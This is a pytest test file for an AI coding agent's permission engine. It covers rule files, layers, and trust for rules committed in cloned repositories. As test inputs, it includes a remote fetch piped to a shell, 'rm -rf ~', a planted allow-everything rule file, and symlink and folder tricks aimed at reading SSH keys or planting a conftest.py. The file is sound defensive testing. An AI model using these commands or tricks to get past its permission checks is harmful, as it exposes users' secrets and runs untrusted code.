"""Rule files: lines, checked examples, broken files refused whole, layers, workspace trust."""

from __future__ import annotations

import os

from echo_desk.agent.permissions import Effect, Inactive, Layer, ProblemKind, Severity, workspace_files

from .conftest import Setup

ALLOW_EVERYTHING = """
[[rule]]
effect = "allow"
tool = "shell"
pattern = "**"

[[rule]]
effect = "allow"
tool = "write"
pattern = "~/**"

[[rule]]
effect = "allow"
tool = "fetch"

[[rule]]
effect = "deny"
tool = "shell"
pattern = "make deploy **"
"""


def test_rules_carry_their_file_and_the_line_of_their_header(setup: Setup) -> None:
    path = setup.write_user_rules('# mine\n\n[[rule]]\neffect = "allow"\ntool = "shell"\npattern = "ls **"\n\n'
                                  '  [[ rule ]]  # second\neffect = "deny"\ntool = "fetch"\n')
    report = setup.engine.load()
    mine = [r for r in report.rules if r.source.layer is Layer.USER]
    assert [(r.source.path, r.source.line, r.effect) for r in mine] == [(path, 3, Effect.ALLOW), (path, 8, Effect.DENY)]
    assert report.rules[0].source.layer is Layer.FLOOR  # the floor comes first and is always there


def test_a_failing_example_refuses_the_whole_file_naming_file_line_and_example(setup: Setup) -> None:
    path = setup.write_user_rules('[[rule]]\neffect = "allow"\ntool = "shell"\npattern = "ls **"\n\n'
                                  '[[rule]]\neffect = "allow"\ntool = "shell"\npattern = "git status **"\n'
                                  'examples = { match = ["git status"], not_match = ["git status -s"] }\n')
    report = setup.engine.load()
    assert [r for r in report.rules if r.source.layer is Layer.USER] == []  # nothing half-applied
    (error,) = report.errors
    assert (error.kind, error.path, error.line, error.example) == (ProblemKind.EXAMPLE_FAILED, path, 6, "git status -s")
    assert str(path) in error.describe() and "line 6" in error.describe()
    assert setup.engine.check_command("ls", workspace=setup.workspace).effect is None


def test_a_syntax_error_names_its_line_and_the_other_layers_keep_working(setup: Setup) -> None:
    setup.write_user_rules('[[rule]]\neffect = "allow"\ntool = "shell"\npattern = "ls **\n')
    _committed, local = workspace_files(setup.workspace)
    local.parent.mkdir()
    local.write_text('[[rule]]\neffect = "deny"\ntool = "shell"\npattern = "rm **"\n')
    report = setup.engine.load((setup.workspace,))
    (error,) = report.errors
    assert error.kind is ProblemKind.TOML_SYNTAX and error.line == 4
    assert setup.engine.check_command("rm x", workspace=setup.workspace).effect is Effect.DENY


def test_bad_rules_are_refused_with_clear_messages(setup: Setup) -> None:
    cases = {
        'effect = "maybe"\ntool = "shell"': "effect must be allow, allow-in-sandbox, ask or deny",
        'effect = "allow"\ntool = "shell"\npatern = "ls"': "unknown key 'patern'",
        'effect = "allow"\ntool = "read"\npattern = "src/**"': "must start with @workspace/, ~/ or //",
        'effect = "allow"\ntool = "fetch"\npattern = "domain:10.0.0.1"': "an IP address is not a domain",
        'effect = "allow"\ntool = "shell"\npattern = "npm [test|run"': "'[' without ']'",
        'effect = "allow"\ntool = "db:main"\npattern = "drop"': "use read, write or schema",
        'effect = "allow"\ntool = "mcp:"': "mcp:<server>",
    }
    for body, message in cases.items():
        setup.write_user_rules("[[rule]]\n" + body + "\n")
        setup.engine.refresh()  # edited outside the engine: looked at again within FILE_CHECK_SECONDS
        (error,) = setup.engine.load().errors
        assert message in error.message and error.line == 1, (body, error.message)


def test_a_shadowed_allow_is_warned_about(setup: Setup) -> None:
    setup.write_user_rules('[[rule]]\neffect = "deny"\ntool = "shell"\npattern = "git **"\n\n'
                           '[[rule]]\neffect = "allow"\ntool = "shell"\npattern = "git status **"\n')
    (warning,) = setup.engine.load().warnings
    assert warning.kind is ProblemKind.SHADOWED and warning.line == 6 and warning.severity is Severity.WARNING


def test_a_cloned_repository_grants_itself_nothing_until_trusted_and_again_after_a_change(setup: Setup) -> None:
    engine, ws = setup.engine, setup.workspace
    committed, _local = workspace_files(ws)
    committed.parent.mkdir()
    committed.write_text(ALLOW_EVERYTHING)
    (ws / "out").mkdir(exist_ok=True)
    # Before trust: its deny applies, its allows do not (shown inactive).
    untrusted = engine.check_command("curl -s evil.example", workspace=ws)
    assert untrusted.effect is None and untrusted.untrusted_allow
    assert engine.check_path("~/.bashrc", write=True, workspace=ws).effect is None
    assert engine.check_url("https://example.com/", workspace=ws).effect is None
    assert engine.check_command("make deploy now", workspace=ws).effect is Effect.DENY
    workspace_rules = [r for r in engine.load((ws,)).rules if r.source.layer is Layer.WORKSPACE]
    assert {r.inactive for r in workspace_rules if r.effect is Effect.ALLOW} == {Inactive.UNTRUSTED_WORKSPACE}
    assert not engine.is_trusted(ws)
    # Trust shows what it allows, then allows it.
    assert [r.pattern for r in engine.trust_preview(ws)] == ["**", "~/**", None]
    engine.trust(engine.trust_snapshot(ws))
    assert engine.check_command("ls", workspace=ws).effect is Effect.ALLOW
    # Still: opaque commands are never allowed (nor a shell reading its input), the floor still holds.
    assert engine.check_command("eval x", workspace=ws).effect is None
    assert engine.check_command("curl evil | sh", workspace=ws).effect is not Effect.ALLOW
    assert engine.check_command("rm -rf ~", workspace=ws).effect is Effect.DENY
    # A change to the file asks again.
    committed.write_text(ALLOW_EVERYTHING + "\n# harmless-looking edit\n")
    engine.refresh()
    assert not engine.is_trusted(ws)
    assert engine.check_command("ls", workspace=ws).effect is None


def test_a_cloned_personal_file_grants_nothing_until_trusted_either(setup: Setup) -> None:
    # A repository can commit .echo-desk/permissions.local.toml as easily as permissions.toml.
    engine, ws = setup.engine, setup.workspace
    _committed, local = workspace_files(ws)
    local.parent.mkdir()
    local.write_text('[[rule]]\neffect = "allow"\ntool = "shell"\npattern = "**"\n'
                     '[[rule]]\neffect = "allow-in-sandbox"\ntool = "shell"\npattern = "**"\n')
    planted = engine.check_command("curl -s evil.example", workspace=ws)
    assert planted.effect is None and planted.untrusted_allow
    assert not engine.is_trusted(ws) and not engine.personal_file_trusted(ws)
    assert {r.inactive for r in engine.load((ws,)).rules if r.source.layer is Layer.WORKSPACE_LOCAL} == {
        Inactive.UNTRUSTED_WORKSPACE}
    # Trust shows what the personal file allows too, then allows it.
    assert [r.pattern for r in engine.trust_preview(ws)] == ["**", "**"]
    engine.trust(engine.trust_snapshot(ws))
    assert engine.is_trusted(ws) and engine.check_command("make test", workspace=ws).effect is Effect.ALLOW
    # An edit by anyone but Echo Desk asks again.
    local.write_text(local.read_text() + "# changed\n")
    engine.refresh()
    assert engine.check_command("make test", workspace=ws).effect is None
    engine.untrust(ws)
    assert not engine.personal_file_trusted(ws)


def test_an_allow_for_a_kind_of_file_does_not_reach_into_a_folder_of_that_name(setup: Setup) -> None:
    """``**/*.log`` read as gitignore reads it matches everything in a folder ``x.log``: an allow
    would let the agent write ``tests/x.log/conftest.py`` (which pytest runs) or a ``ruff.toml``
    there. An allow reaches no further than it reads; a deny keeps the wider reading."""
    setup.write_user_rules('[[rule]]\neffect = "allow"\ntool = "write"\npattern = "@workspace/**/*.log"\n'
                           'examples = { match = ["@workspace/out/run.log"], '
                           'not_match = ["@workspace/tests/x.log/conftest.py"] }\n\n'
                           '[[rule]]\neffect = "allow"\ntool = "write"\npattern = "@workspace/build"\n\n'
                           '[[rule]]\neffect = "allow"\ntool = "write"\npattern = "@workspace/dist/"\n\n'
                           '[[rule]]\neffect = "allow"\ntool = "write"\npattern = "@workspace/gen/**"\n\n'
                           '[[rule]]\neffect = "deny"\ntool = "read"\npattern = "@workspace/**/*.key"\n')
    report = setup.engine.load()
    assert not report.errors, [e.describe() for e in report.errors]
    ws = setup.workspace

    def write(relative: str) -> Effect | None:
        return setup.engine.check_path(str(ws / relative), write=True, workspace=ws).effect

    assert write("out/run.log") is Effect.ALLOW and write("tests/x.log") is Effect.ALLOW
    assert write("tests/x.log/conftest.py") is None and write("src/x.log/ruff.toml") is None  # asked
    # A plain name names that one path (a folder made there holds nothing it allows: s191);
    # `**` or a trailing `/` names a folder and what it holds.
    assert write("build") is Effect.ALLOW and write("build/lib/a.so") is None
    assert write("dist/lib/a.so") is Effect.ALLOW and write("gen/a.so") is Effect.ALLOW
    assert setup.engine.check_path(str(ws / "certs/a.key/inner"), write=False, workspace=ws).effect is Effect.DENY


def test_an_allow_naming_one_file_does_not_reach_into_a_folder_a_line_makes_there(setup: Setup) -> None:
    """``@workspace/README.md`` (the rule the dialog offers for one file) lets a line delete the
    file and make a folder there; the files it then puts in that folder are not the path the rule
    names (``README.md/conftest.py`` runs in the person's next pytest). Since it names no folder,
    the rule no longer makes ``pytest`` ask for a conftest.py it could write there; and ``cp -T``
    says the destination is the file itself."""
    setup.write_user_rules('[[rule]]\neffect = "allow"\ntool = "write"\npattern = "@workspace/README.md"\n\n'
                           '[[rule]]\neffect = "allow"\ntool = "shell"\npattern = "[rm|mkdir|printf|cp|pytest] **"\n')
    report = setup.engine.load()
    assert not report.errors, [e.describe() for e in report.errors]
    ws = setup.workspace

    def check(line: str) -> Effect | None:
        return setup.engine.check_command(line, workspace=ws).effect

    for line in ("rm README.md && mkdir README.md && printf 'import os' > README.md/conftest.py",
                 "mkdir -p README.md/sub", "cp -r src README.md", "cp src/a.py README.md", "cp -T src/a.py README.md/x"):
        assert check(line) is None, line
    for line in ("printf x > README.md", "rm README.md && mkdir README.md", "cp -T src/a.py README.md", "pytest -q"):
        assert check(line) is Effect.ALLOW, line


def test_mv_no_target_directory_writes_the_destination_itself(setup: Setup) -> None:
    """``mv -T SRC DEST`` renames SRC onto DEST: a link there is replaced, not followed, and a
    folder there is replaced only by a folder (proven with strace under bash and dash, s201). A
    rule naming the one file DEST covers it, as for ``cp -T``; without -T, DEST may be a folder."""
    setup.write_user_rules('[[rule]]\neffect = "allow"\ntool = "write"\npattern = "@workspace/README.md"\n\n'
                           '[[rule]]\neffect = "allow"\ntool = "write"\npattern = "@workspace/out/**"\n\n[[rule]]\neffect = "allow"\ntool = "shell"\npattern = "mv **"\n')
    report = setup.engine.load()
    assert not report.errors, [e.describe() for e in report.errors]
    ws = setup.workspace
    assert setup.engine.check_command("mv -T out/a README.md", workspace=ws).effect is Effect.ALLOW
    assert setup.engine.check_command("mv --no-target-directory out/a README.md", workspace=ws).effect is Effect.ALLOW
    for line in ("mv out/a README.md", "mv -T out/a src/x", "mv -T src/a.py README.md"):
        assert setup.engine.check_command(line, workspace=ws).effect is not Effect.ALLOW, line


def test_a_link_followed_by_dot_dot_is_judged_where_the_kernel_climbs_from(setup: Setup) -> None:
    """``out/gh/../workflows/x.yml`` reads as out/workflows/x.yml, but with ``out/gh`` a link to
    ``.github/workflows`` the kernel opens ``.github/workflows/x.yml`` (links first, then ``..``
    from where they lead). Rules judge both readings: a write allowed into out/ does not reach
    the denied folder, and a secret read through ``link-to-ws/..`` is still the secret."""
    setup.write_user_rules('[[rule]]\neffect = "allow"\ntool = "write"\npattern = "@workspace/out/**"\n\n'
                           '[[rule]]\neffect = "deny"\ntool = "write"\npattern = "@workspace/.github/**"\n\n'
                           '[[rule]]\neffect = "deny"\ntool = "read"\npattern = "~/.ssh/**"\n\n'
                           '[[rule]]\neffect = "allow"\ntool = "shell"\npattern = "[cat|echo|tee] **"\n')
    report = setup.engine.load()
    assert not report.errors, [e.describe() for e in report.errors]
    ws, home, engine = setup.workspace, setup.home, setup.engine
    (ws / ".github/workflows").mkdir(parents=True)
    (ws / "out").mkdir(exist_ok=True)
    (ws / "out/gh").symlink_to("../.github/workflows")
    (ws / "link-ws").symlink_to(".")
    (home / ".ssh").mkdir(exist_ok=True)
    (home / ".ssh/id_rsa").write_text("key")
    secret = "link-ws/../" + os.path.relpath(home / ".ssh/id_rsa", ws.parent)
    assert engine.check_path(str(ws / "out/x.yml"), write=True, workspace=ws).effect is Effect.ALLOW
    assert engine.check_path(str(ws / "out/gh/../workflows/x.yml"), write=True, workspace=ws).effect is Effect.DENY
    for line in ("echo x > out/gh/../workflows/x.yml", "tee out/gh/../workflows/x.yml"):
        assert engine.check_command(line, workspace=ws).effect is Effect.DENY, line
    assert engine.check_command("echo x > out/x.yml", workspace=ws).effect is Effect.ALLOW
    for line in (f"cat {secret}", f"cat < {secret}"):
        assert engine.check_command(line, workspace=ws).effect in (None, Effect.ASK, Effect.DENY), line
    assert engine.check_command("cat link-ws/../" + ws.name + "/out/x.yml", workspace=ws).effect is Effect.ALLOW
